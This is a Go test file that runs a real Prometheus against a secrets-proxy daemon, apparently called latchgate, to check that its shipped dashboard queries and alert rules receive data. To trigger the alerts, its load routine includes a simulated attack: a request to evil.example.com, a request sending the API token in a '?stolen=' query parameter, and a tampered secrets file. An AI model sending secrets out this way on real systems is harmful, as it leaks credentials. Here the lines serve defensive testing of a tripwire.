package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/latchgate/latchgate/internal/testenv"
	"gopkg.in/yaml.v3"
)

// scraper is a real Prometheus that scrapes a daemon.
type scraper struct {
	t      *testing.T
	url    string
	client *http.Client
}

// startPrometheus runs Prometheus with the scrape configuration and the rules
// that are shipped, at the daemon's real address and much faster.
func startPrometheus(t *testing.T, target string) *scraper {
	t.Helper()
	program := testenv.Program(t, "prometheus")
	dir := t.TempDir()
	for name, change := range map[string]*strings.Replacer{
		"prometheus.yml":      strings.NewReplacer("127.0.0.1:9470", target, "15s", "200ms"),
		"latchgate.rules.yml": strings.NewReplacer(),
	} {
		raw, err := os.ReadFile(filepath.Join("../../configs/prometheus", name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(change.Replace(string(raw))), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	_ = ln.Close() // Prometheus can't be handed a listener, nor say which port it took
	var log bytes.Buffer
	c := exec.Command(program, "--config.file="+filepath.Join(dir, "prometheus.yml"),
		"--storage.tsdb.path="+filepath.Join(dir, "data"), "--web.listen-address="+addr)
	c.Dir, c.Stdout, c.Stderr = dir, &log, &log
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() { defer close(ended); _ = c.Wait() }()
	tr := &http.Transport{}
	t.Cleanup(func() {
		tr.CloseIdleConnections()
		_ = c.Process.Signal(syscall.SIGTERM)
		<-ended
		if t.Failed() {
			t.Log(log.String())
		}
	})
	return &scraper{t, "http://" + addr, &http.Client{Transport: tr, Timeout: patience}}
}

// ask gets an answer of Prometheus' API; an error while it starts is "not yet".
func (p *scraper) ask(path string, into any) error {
	resp, err := p.client.Get(p.url + path)
	if err != nil {
		return err
	}
	defer func() { _ = resp.Body.Close() }()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	if resp.StatusCode == http.StatusBadRequest || resp.StatusCode == http.StatusUnprocessableEntity {
		p.t.Fatalf("%s: %s", path, raw)
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s: status %d", path, resp.StatusCode)
	}
	return json.Unmarshal(raw, into)
}

// hasData reports whether the expression has a sample that is a number.
func (p *scraper) hasData(expr string) bool {
	var answer struct {
		Data struct {
			Result []struct{ Value [2]any }
		}
	}
	if err := p.ask("/api/v1/query?query="+url.QueryEscape(expr), &answer); err != nil {
		return false
	}
	for _, r := range answer.Data.Result {
		if r.Value[1] != "NaN" {
			return true
		}
	}
	return false
}

// dashboardQueries are the expressions of the shipped dashboard as Grafana
// would send them, by panel.
func dashboardQueries(t *testing.T) map[string]string {
	t.Helper()
	raw, err := os.ReadFile("../../configs/grafana/latchgate.json")
	if err != nil {
		t.Fatal(err)
	}
	var d struct {
		Panels []struct {
			ID      int
			Title   string
			Type    string
			Targets []struct{ Expr, RefID string }
		}
	}
	if err := json.Unmarshal(raw, &d); err != nil {
		t.Fatal(err)
	}
	queries, ids := map[string]string{}, map[int]bool{}
	for _, p := range d.Panels {
		if ids[p.ID] {
			t.Errorf("two panels have the id %d", p.ID)
		}
		ids[p.ID] = true
		if p.Type != "row" && len(p.Targets) == 0 {
			t.Errorf("the panel %q asks for nothing", p.Title)
		}
		for _, target := range p.Targets {
			queries[p.Title+"/"+target.RefID] = strings.NewReplacer("$__rate_interval", "1m", "$instance", ".*").Replace(target.Expr)
		}
	}
	return queries
}

// alertExpressions are the shipped alerts, by name.
func alertExpressions(t *testing.T) map[string]string {
	t.Helper()
	raw, err := os.ReadFile("../../configs/prometheus/latchgate.rules.yml")
	if err != nil {
		t.Fatal(err)
	}
	var file struct {
		Groups []struct {
			Rules []struct{ Alert, Expr string }
		}
	}
	if err := yaml.Unmarshal(raw, &file); err != nil {
		t.Fatal(err)
	}
	alerts := map[string]string{}
	for _, g := range file.Groups {
		for _, r := range g.Rules {
			alerts[r.Alert] = r.Expr
		}
	}
	return alerts
}

// eventful makes everything happen that a metric counts.
type eventful struct {
	h     *home
	d     *process
	agent *agent
}

func newEventful(t *testing.T) *eventful {
	h := newHome(t)
	d := h.start()
	return &eventful{h: h, d: d, agent: h.agent("api", "git")}
}

// once is one round of load: what it does leaves the home as it was.
func (e *eventful) once() {
	h, a := e.h, e.agent
	h.t.Helper()
	h.origin.say("you sent " + apiSecret)
	for _, path := range []string{"/", "/say"} {
		if got := a.get("https://" + apiHost + path); got.status != http.StatusOK {
			h.t.Fatalf("%s: %+v", path, got)
		}
	}
	a.get("https://evil.example.com/")
	if got := a.get("https://" + gitHost + "/?stolen=" + a.vars["API_TOKEN"]); got.code != "tripwire" {
		h.t.Fatalf("%+v", got)
	}
	h.agent("api").get("https://" + apiHost + "/") // another tunnel: the leaf is there
	h.must("runs", "revoke", a.run())
	e.agent = h.agent("api", "git")

	h.must("secrets", "remove", "API_TOKEN")
	if got := e.agent.get("https://" + apiHost + "/"); got.code != "secret_unavailable" {
		h.t.Fatalf("%+v", got)
	}
	if o := h.runWith(apiSecret, nil, "secrets", "set", "API_TOKEN", "--stdin"); o.status != 0 {
		h.t.Fatal(o.stderr)
	}
	whole := h.read("secrets.enc.yaml")
	h.write("secrets.enc.yaml", strings.Replace(whole, "ENC[AES256_GCM,data:", "ENC[AES256_GCM,data:AAAA", 1))
	if o := h.run("env", "-a", "api"); o.status != 1 {
		h.t.Fatal("a secrets file that was tampered with opens a run")
	}
	h.write("secrets.enc.yaml", whole)

	at := e.d.now()
	h.write("manifests/api.yaml", "action_id: [")
	_, at = e.d.waitAfter(at, "reload: the last good one stays in force where it failed")
	h.write("manifests/api.yaml", apiManifest)
	e.d.waitAfter(at, "reloaded")
}

// Every query of the dashboard and every metric of an alert is there, and the
// alerts on events fire for the first of their events.
func TestDashboardAndAlertsInARealPrometheus(t *testing.T) {
	t.Parallel()
	e := newEventful(t)
	p := startPrometheus(t, e.d.metrics)
	pending := dashboardQueries(t)
	for alert, expr := range alertExpressions(t) {
		switch alert {
		case "LatchgateTripwire", "LatchgateSecretScrubbed", "LatchgateSecretUnavailable", "LatchgateDecryptFailing", "LatchgateReloadFailed":
			pending[alert] = expr // the load makes it fire
		}
		for _, name := range metricNames(expr) {
			pending[alert+": "+name] = name
		}
	}
	for deadline := time.Now().Add(2 * patience); len(pending) > 0; {
		e.once()
		for name, expr := range pending {
			if p.hasData(expr) {
				delete(pending, name)
			}
		}
		if time.Now().After(deadline) {
			for name, expr := range pending {
				t.Errorf("no data for %s: %s", name, expr)
			}
			break
		}
	}
	var rules struct {
		Data struct {
			Groups []struct {
				Rules []struct{ Name, Health, LastError string }
			}
		}
	}
	if err := p.ask("/api/v1/rules", &rules); err != nil || len(rules.Data.Groups) == 0 {
		t.Fatalf("%v, %d groups", err, len(rules.Data.Groups))
	}
	for _, r := range rules.Data.Groups[0].Rules {
		if r.Health == "err" {
			t.Errorf("alert %s: %s", r.Name, r.LastError)
		}
	}
	_, page := e.d.get("/metrics")
	noSecret(t, "/metrics", page)
	t.Run("docs/metrics.md", func(t *testing.T) { documented(t, page, e.d) })
}

// metricNames are latchgate's metrics in an expression.
func metricNames(expr string) []string {
	words := strings.FieldsFunc(expr, func(r rune) bool { return r != '_' && (r < 'a' || r > 'z') })
	words = slices.DeleteFunc(words, func(w string) bool { return !strings.HasPrefix(w, "latchgate_") })
	slices.Sort(words)
	return slices.Compact(words)
}

// The shipped files pass Prometheus' own checks, and the alerts their tests.
func TestPromtoolAcceptsTheShippedFiles(t *testing.T) {
	t.Parallel()
	promtool := testenv.Program(t, "promtool")
	for _, args := range [][]string{
		{"check", "config", "prometheus.yml"},
		{"check", "rules", "latchgate.rules.yml"},
		{"test", "rules", "latchgate.rules.test.yml"},
	} {
		c := exec.Command(promtool, args...)
		c.Dir = "../../configs/prometheus"
		if out, err := c.CombinedOutput(); err != nil {
			t.Errorf("promtool %v: %v\n%s", args, err, out)
		}
	}
}
